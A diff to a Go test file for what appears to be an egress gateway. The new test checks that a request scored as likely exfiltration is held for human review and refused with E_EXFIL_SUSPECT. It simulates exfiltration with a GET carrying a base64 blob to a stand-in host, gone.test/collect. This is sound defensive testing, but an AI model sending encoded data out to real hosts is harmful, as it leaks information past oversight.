@@ -204,3 +204,50 @@ func TestAskWithoutAHubIsNoConsole(t *testing.T) {
 		t.Fatalf("got %d %s after %s", resp.StatusCode, resp.Header.Get(HeaderCode), time.Since(start))
 	}
 }
+
+// TestHeuristicsTicketShowsTheScore: under heuristics = "enforce" a FREE request over the
+// threshold waits for a human; the ticket names the rule, the score and the reasons (not the
+// blob), and a denial answers E_EXFIL_SUSPECT.
+func TestHeuristicsTicketShowsTheScore(t *testing.T) {
+	tg, h, _, _, _, stop := askGate(t, "10s")
+	defer stop()
+	// gone.test is mapped to the origin and not trusted: the heuristics score it in full.
+	p, err := policy.Load("p.toml", []byte(fmt.Sprintf(gatePolicy+"[[rule]]\nname = \"api\"\nhosts = [\"gone.test\"]\nverdict = \"free\"\n"+
+		"[settings]\nhold = \"10s\"\nheuristics = \"enforce\"\n", tg.port)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	tg.g.SetPolicy(p)
+	blob := strings.Repeat("Qm9vZ2xlIGlzIGEgc2VhcmNoIGVuZ2luZQ7x", 12)
+	done := make(chan *http.Response, 1)
+	go func() {
+		resp, err := tg.client().Get(fmt.Sprintf("http://gone.test:%d/collect?d=%s", tg.port, blob))
+		if err != nil {
+			t.Error(err)
+		}
+		done <- resp
+	}()
+	var tk hub.Ticket
+	deadline := time.Now().Add(5 * time.Second)
+	for tk.ID == "" && time.Now().Before(deadline) {
+		if p := h.Pending(); len(p) == 1 {
+			tk = p[0]
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	if tk.ID == "" {
+		t.Fatal("no ticket")
+	}
+	if tk.Rule != ruleHeuristics || !strings.Contains(tk.Reason, "exfiltration score") || !strings.Contains(tk.Warning, "base64") ||
+		strings.Contains(tk.Reason+tk.Warning, blob[:30]) {
+		t.Fatalf("ticket: rule %q reason %q warning %q", tk.Rule, tk.Reason, tk.Warning)
+	}
+	if _, err := h.Decide(tk.ID, tk.Fingerprint, false, "terminal:test", "not this"); err != nil {
+		t.Fatal(err)
+	}
+	resp := <-done
+	resp.Body.Close()
+	if resp.StatusCode != 403 || resp.Header.Get(HeaderCode) != "E_EXFIL_SUSPECT" || tg.origin.count() != 0 {
+		t.Fatalf("after the denial: %d %s, %d went out", resp.StatusCode, resp.Header.Get(HeaderCode), tg.origin.count())
+	}
+}
